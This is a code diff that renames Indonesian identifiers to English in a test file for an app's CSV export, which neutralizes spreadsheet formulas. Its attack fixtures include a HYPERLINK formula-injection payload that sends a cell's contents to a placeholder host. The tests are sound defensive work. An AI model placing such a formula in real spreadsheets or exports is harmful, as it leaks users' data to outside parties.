@@ -1,10 +1,10 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
-import { bacaBerkas } from '$lib/import/table/file';
+import { readTableFile } from '$lib/import/table/file';
 import { parseCsv } from '$lib/import/table/csv';
-import { csvEkspor, tanpaPenetralRumus, teksCsvAman } from '$lib/import/table/csv-export';
-import { ekspor } from '$lib/import/master/file';
-import { AWAL_RUMUS } from '$lib/import/table/xlsx-write';
+import { csvExport, withoutFormulaNeutralizer, safeCsvText } from '$lib/import/table/csv-export';
+import { exportMaster } from '$lib/import/master/file';
+import { FORMULA_START } from '$lib/import/table/xlsx-write';
 
 const SERANGAN = [
 	'=HYPERLINK("http://contoh.invalid?x="&A1,"Klik")',
@@ -23,14 +23,14 @@ describe('every CSV the app writes', () => {
 			dinilaiIndeks: true,
 			layananSkm: false
 		};
-		const berkas = ekspor('unit', [unit], 'csv', '2026-12-06');
+		const berkas = exportMaster('unit', [unit], 'csv', '2026-12-06');
 		const cells = parseCsv(new TextDecoder().decode(berkas.isi)).rows[0]!.cells;
 		expect(cells).toContain(`'${SERANGAN[0]}`);
-		expect(cells.some((c) => AWAL_RUMUS.test(c))).toBe(false);
+		expect(cells.some((c) => FORMULA_START.test(c))).toBe(false);
 	});
 
 	it('keeps numbers as numbers, negative ones too', () => {
-		const text = csvEkspor(['a', 'b'], [[-2.5, 'Antrean lama - mohon ditambah']]);
+		const text = csvExport(['a', 'b'], [[-2.5, 'Antrean lama - mohon ditambah']]);
 		expect(parseCsv(text).rows[0]!.cells).toEqual(['-2,5', 'Antrean lama - mohon ditambah']);
 	});
 
@@ -42,15 +42,15 @@ describe('every CSV the app writes', () => {
 		);
 		fc.assert(
 			fc.property(teks, (s) => {
-				expect(tanpaPenetralRumus(teksCsvAman(s))).toBe(s);
-				expect(AWAL_RUMUS.test(teksCsvAman(s))).toBe(false);
+				expect(withoutFormulaNeutralizer(safeCsvText(s))).toBe(s);
+				expect(FORMULA_START.test(safeCsvText(s))).toBe(false);
 			})
 		);
 	});
 
 	it('takes the apostrophe off when such a CSV is imported', () => {
-		const bytes = new TextEncoder().encode(csvEkspor(['nama'], [[SERANGAN[1]!]]));
-		const hasil = bacaBerkas('x.csv', bytes);
+		const bytes = new TextEncoder().encode(csvExport(['nama'], [[SERANGAN[1]!]]));
+		const hasil = readTableFile('x.csv', bytes);
 		expect(hasil.ok && hasil.tabel.rows[0]!.cells[0]).toBe(SERANGAN[1]);
 	});
 });
